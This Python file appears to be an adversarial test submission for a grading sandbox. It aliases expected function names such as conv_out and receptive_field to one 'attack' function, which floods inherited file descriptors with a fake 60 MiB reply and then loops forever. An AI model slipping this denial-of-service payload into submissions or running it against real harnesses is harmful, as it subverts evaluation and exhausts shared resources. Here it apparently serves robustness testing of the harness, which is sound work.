# topic: output_size
"""Writes a reply of 60 MiB that is none, in every call: the failure that comes of it must not keep its frames."""

import contextlib
import os
import struct

SIZE = 60 << 20
PIECE = bytes(1 << 20)


def attack(*_, **__):
    for descriptor in range(3, 16):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<IQQ", 2, 1, SIZE) + b"\xc0")
            for _ in range(SIZE >> 20):
                whole = memoryview(PIECE)
                while whole:
                    with contextlib.suppress(BlockingIOError):
                        whole = whole[os.write(descriptor, whole) :]
    while True:
        pass


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
